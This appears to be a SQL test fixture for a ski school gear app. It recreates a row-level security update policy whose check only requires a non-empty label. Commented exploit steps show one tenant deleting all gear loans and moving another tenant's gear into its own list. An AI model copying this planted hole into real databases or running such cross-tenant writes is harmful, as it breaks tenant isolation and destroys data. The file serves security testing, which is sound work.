-- The new check only wants a label, so a school can push its gear into the list of another one.
-- about: gear, gear_upd
-- as: hf_skischool_app
-- exploit: SET ski.school = 'hill';
-- exploit: DELETE FROM gear_loans;
-- exploit: UPDATE gear SET school = 'hill-road';
-- exploit: SET ski.school = 'hill-road';
-- exploit: SELECT 'gear now: ' || string_agg(label, ', ' ORDER BY label) FROM gear;
-- shows: gear now: Road-secret board, h-ski-1
DROP POLICY gear_upd ON gear;
CREATE POLICY gear_upd ON gear FOR UPDATE USING (school = current_school()) WITH CHECK (label <> '');
